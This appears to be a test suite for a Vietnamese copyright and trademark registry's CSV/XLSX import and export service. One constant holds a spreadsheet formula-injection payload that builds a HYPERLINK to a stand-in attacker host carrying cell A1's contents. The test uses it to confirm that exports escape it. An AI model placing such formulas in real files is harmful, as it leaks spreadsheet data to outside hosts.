import sharp from 'sharp';
import { afterEach, describe, expect, it } from 'vitest';
import { databaseKinds } from '../../../test/helpers/databases.ts';
import { createTestQueues } from '../../../test/helpers/queues.ts';
import { createStageTestContext } from '../../fingerprint.service.fixture.ts';
import { scenePng } from '../../image/synthetic.fixture.ts';
import { RegistryService } from '../registry.service.ts';
import type { RegistryActor } from '../registry.types.ts';
import { csvOf, xlsxOf, zipOf } from './import.fixture.ts';
import { RegistryImportService, reportJson, type ImportLimits } from './import.service.ts';
import { exportRegistry, registryTemplate } from './registry.export.ts';

const officer: RegistryActor = { userId: null, role: 'officer', ownerId: null, label: 'import-test' };
const limits: ImportLimits = { maxFileBytes: 5 * 1024 * 1024, maxRows: 1000, maxArchiveBytes: 50 * 1024 * 1024, maxImageBytes: 10 * 1024 * 1024 };
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const POEM = 'Làng tranh giấy điệp hây hây\nMẹ ngồi in mộc cả ngày không thôi';
/** PGlite under a loaded machine: a file's whole transaction can take a while. */
const SLOW = { timeout: 300_000 };
const WORK_HEADER = ['title', 'type', 'authors', 'owners', 'certificate_no', 'certificate_date', 'published_on', 'description', 'images', 'text'];

describe.each(databaseKinds())('registry import service on %s', (kind) => {
  let close: (() => Promise<void>) | undefined;
  afterEach(async () => {
    await close?.();
    close = undefined;
  });

  async function setup() {
    const env = await createStageTestContext(kind);
    close = env.close;
    const registry = new RegistryService({ ...env.ctx, queues: undefined });
    const importer = new RegistryImportService(registry, limits);
    const run = (name: string, bytes: Uint8Array | string, options: { images?: Buffer; dryRun?: boolean; actor?: RegistryActor } = {}) =>
      importer.import({
        file: { name, bytes: typeof bytes === 'string' ? new TextEncoder().encode(bytes) : bytes },
        images: options.images ? { name: 'images.zip', bytes: options.images } : undefined,
        dryRun: options.dryRun,
        actor: options.actor ?? officer,
      });
    const total = async () => (await registry.listWorks(officer, { limit: 1 })).total + (await registry.listMarks(officer, { limit: 1 })).total;
    return { registry, run, total };
  }

  it('works: CSV with images, idempotent, formula kept as written, exports re-import unchanged', SLOW, async () => {
    const { registry, run } = await setup();
    const images = await zipOf([
      { name: 'anh/dam-cuoi-chuot.png', data: await sharp(await scenePng(1, 160, 120)).png().toBuffer() },
      { name: 'anh/ga-trong.jpg', data: await sharp(await scenePng(2, 160, 120)).jpeg().toBuffer() },
    ]);
    const csv = csvOf([
      WORK_HEADER,
      ['Đám cưới chuột', 'fine_art', 'Nghệ nhân A; Nghệ nhân B', 'Làng tranh Đông Hồ', '3794/2026/QTG', '2026-03-05', '05/01/2025', 'Tranh khắc gỗ', 'dam-cuoi-chuot.png; ga-trong.jpg', ''],
      ['Bài thơ làng tranh', 'văn học, khoa học', 'Tác giả C', 'Tác giả C', '', '', '', FORMULA, '', POEM],
    ]);
    const first = await run('works.csv', csv, { images });
    expect(reportJson(first)).toEqual({ kind: 'works', created: 2, updated: 0, unchanged: 0, rejected: [] });
    expect(first.written).toBe(true);
    const { rows } = await registry.listWorks(officer, {});
    expect(rows.map((w) => [w.title, w.type, w.certificateDate, w.publishedOn, w.assets.filter((a) => a.kind === 'image').length])).toEqual([
      ['Đám cưới chuột', 'fine_art', '2026-03-05', '2025-01-05', 2],
      ['Bài thơ làng tranh', 'literary', null, null, 0],
    ]);
    expect(rows[1]!.description).toBe(FORMULA);
    expect(rows[1]!.text).toBe(POEM);

    expect(reportJson(await run('works.csv', csv, { images }))).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
    expect(reportJson(await run('works.csv', csv))).toMatchObject({ unchanged: 2, rejected: [] });

    const csvExport = await exportRegistry(registry, officer, 'works', 'csv');
    const text = csvExport.bytes.toString('utf8');
    expect(text.startsWith('\uFEFFtitle,type,authors,owners,certificate_no')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    expect(reportJson(await run('export.csv', csvExport.bytes))).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 2, rejected: [] });
    const xlsxExport = await exportRegistry(registry, officer, 'works', 'xlsx', { header: 'vi' });
    expect(reportJson(await run('export.xlsx', xlsxExport.bytes))).toEqual({ kind: 'works', created: 0, updated: 0, unchanged: 2, rejected: [] });
  });

  it('dry run: each row created / updated / unchanged, nothing written', SLOW, async () => {
    const { registry, run, total } = await setup();
    await run('seed.csv', csvOf([['title', 'type', 'authors', 'owners'], ['Gà trống', 'fine_art', 'Nghệ nhân A', 'Làng tranh Đông Hồ'], ['Lợn nái', 'fine_art', '', 'Làng tranh Đông Hồ']]));
    const before = await total();
    // No authors column: the stored authors are kept, so "Lợn nái" and "Gà trống" compare on what is given.
    const csv = csvOf([['title', 'type', 'owners', 'description'], ['Gà trống', 'fine_art', 'Làng tranh Đông Hồ', 'Tranh Tết'], ['Lợn nái', 'fine_art', 'Làng tranh Đông Hồ', ''], ['Chăn trâu thổi sáo', 'fine_art', 'Làng tranh Đông Hồ', '']]);
    const report = await run('changes.csv', csv, { dryRun: true });
    expect(report.rows.map((r) => [r.row, r.outcome])).toEqual([[2, 'updated'], [3, 'unchanged'], [4, 'created']]);
    expect(reportJson(report)).toEqual({ kind: 'works', created: 1, updated: 1, unchanged: 1, rejected: [] });
    expect(report.written).toBe(false);
    expect(await total()).toBe(before);
    expect((await registry.listWorks(officer, {})).rows.find((w) => w.title === 'Gà trống')?.description).toBeNull();
  });

  it('any refused row: nothing written, every reason, duplicates named by row', SLOW, async () => {
    const { run, total } = await setup();
    const report = await run('bad.csv', csvOf([
      ['title', 'type', 'owners', 'certificate_no', 'certificate_date'],
      ['Mới một', 'photo', 'Nhiếp ảnh gia D', '', '2026-01-02'],
      ['Mới hai', 'painting', 'Nhiếp ảnh gia D', '', '31/02/2026'],
      ['Mới ba', 'music', 'Nhạc sĩ E', '100/2026/QTG', ''],
      ['Mới bốn', 'music', 'Nhạc sĩ E', '100/2026/qtg', ''],
    ]));
    expect(report.written).toBe(false);
    expect(await total()).toBe(0);
    const json = reportJson(report, 'vi');
    expect(json).toMatchObject({ created: 0, updated: 0, unchanged: 0 });
    expect(json.rejected.map((r) => r.row)).toEqual([3, 4, 5]);
    expect(json.rejected[0]!.errors).toEqual([expect.stringMatching(/loại hình không hợp lệ "painting"/), expect.stringMatching(/ngày không hợp lệ "31\/02\/2026"/)]);
    expect(json.rejected[1]!.errors).toEqual(['trùng số giấy chứng nhận/văn bằng 100/2026/QTG với dòng 5']);
    // The rows that passed are still reported with what they would have done.
    expect(report.rows[0]).toMatchObject({ row: 2, outcome: 'created' });
  });

  it('a refusal by the registry service (rights holder vs. another holder’s certificate) rolls the whole file back', SLOW, async () => {
    const { registry, run, total } = await setup();
    await run('seed.csv', csvOf([['title', 'type', 'owners', 'certificate_no'], ['Của người khác', 'music', 'Nhạc sĩ E', '7/2026/QTG'], ['Của tôi', 'music', 'Nhạc sĩ F', '']]));
    const mine = (await registry.listWorks(officer, {})).rows.find((w) => w.title === 'Của tôi')!;
    const holder: RegistryActor = { userId: 9, role: 'rights_holder', ownerId: mine.owners[0]!.id };
    const before = await total();
    const report = await run('holder.csv', csvOf([['title', 'type', 'owners', 'certificate_no'], ['Bài mới', 'music', 'Nhạc sĩ F', ''], ['Chiếm số', 'music', 'Nhạc sĩ F', '7/2026/QTG']]), { actor: holder });
    expect(report.rejected.map((r) => r.row)).toEqual([3]);
    expect(report.rejected[0]!.errors[0]!.en).toMatch(/conflicts with the registry: certificate number 7\/2026\/QTG is already registered/);
    expect(await total()).toBe(before);
  });

  it('marks: XLSX with Vietnamese headings, both date forms, codes or labels; export re-imports unchanged', SLOW, async () => {
    const { registry, run } = await setup();
    const xlsx = await xlsxOf([
      ['STT', 'Tên nhãn hiệu *', 'Loại nhãn hiệu *', 'Chủ sở hữu *', 'Số văn bằng', 'Ngày nộp đơn', 'Ngày cấp văn bằng', 'Nhóm Nice', 'Hàng hóa, dịch vụ', 'Mẫu nhãn hiệu'],
      [1, 'Gốm Phù Lãng', 'Nhãn hiệu tập thể', 'Hợp tác xã gốm Phù Lãng', '4-0123456-000', '15/03/2019', new Date(Date.UTC(2020, 5, 1)), '21; 35', '@gốm, sành, sứ', 'logo.png'],
      [2, 'Tranh Đông Hồ', 'geographical_indication', 'UBND tỉnh Bắc Ninh', '', '2018-07-01', '', 16, 'Tranh dân gian', ''],
    ]);
    const images = await zipOf([{ name: 'logo.png', data: await sharp(await scenePng(5, 120, 120)).png().toBuffer() }]);
    const report = await run('marks.xlsx', await xlsx, { images });
    expect(reportJson(report)).toEqual({ kind: 'marks', created: 2, updated: 0, unchanged: 0, rejected: [] });
    expect(report.ignoredColumns).toEqual(['STT']);
    const { rows } = await registry.listMarks(officer, {});
    expect(rows.map((m) => [m.name, m.kind, m.filingDate, m.grantDate, m.niceClasses, m.goods, m.assets.filter((a) => a.kind === 'image').length])).toEqual([
      ['Gốm Phù Lãng', 'collective', '2019-03-15', '2020-06-01', [21, 35], '@gốm, sành, sứ', 1],
      ['Tranh Đông Hồ', 'geographical_indication', '2018-07-01', null, [16], 'Tranh dân gian', 0],
    ]);
    for (const format of ['csv', 'xlsx'] as const) {
      const file = await exportRegistry(registry, officer, 'marks', format);
      if (format === 'csv') expect(file.bytes.toString('utf8')).toContain(`"'@gốm, sành, sứ"`);
      expect(reportJson(await run(`marks.${format}`, file.bytes))).toEqual({ kind: 'marks', created: 0, updated: 0, unchanged: 2, rejected: [] });
    }
  });

  it('templates carry the Vietnamese headings and import as an empty file', SLOW, async () => {
    const { run } = await setup();
    for (const k of ['works', 'marks'] as const) {
      for (const format of ['csv', 'xlsx'] as const) {
        const template = await registryTemplate(k, format);
        if (format === 'csv') expect(template.bytes.toString('utf8')).toMatch(k === 'works' ? /^\uFEFFTên tác phẩm \*,Loại hình \*/ : /^\uFEFFTên nhãn hiệu \*/);
        expect(reportJson(await run(template.fileName, template.bytes))).toEqual({ kind: k, created: 0, updated: 0, unchanged: 0, rejected: [] });
      }
    }
  });
});

describe('registry import: fingerprint jobs', () => {
  it('are queued after the commit for new or changed works only, never for a dry run', SLOW, async () => {
    const queues = createTestQueues();
    const env = await createStageTestContext('pglite', queues.queues);
    try {
      const registry = new RegistryService({ ...env.ctx, queues: queues.queues });
      const importer = new RegistryImportService(registry, limits);
      const waiting = async () => (await queues.queues.counts()).match!.waiting!;
      const run = (csv: string, dryRun = false) => importer.import({ file: { name: 'w.csv', bytes: new TextEncoder().encode(csv) }, dryRun, actor: officer });
      const csv = csvOf([['title', 'type', 'owners', 'text'], ['Bài thơ một', 'literary', 'Tác giả C', POEM], ['Bài thơ hai', 'literary', 'Tác giả C', 'Câu thơ khác']]);
      await run(csv, true);
      expect(await waiting()).toBe(0);
      expect(reportJson(await run(csv))).toMatchObject({ created: 2 });
      expect(await waiting()).toBe(2);
      await run(csv);
      expect(await waiting()).toBe(2);
      const changed = csvOf([['title', 'type', 'owners', 'text'], ['Bài thơ một', 'literary', 'Tác giả C', `${POEM}\nMột dòng thêm`]]);
      expect(reportJson(await run(changed))).toMatchObject({ updated: 1 });
      expect(await waiting()).toBe(3);
    } finally {
      await env.close();
      await queues.cleanup();
    }
  });
});
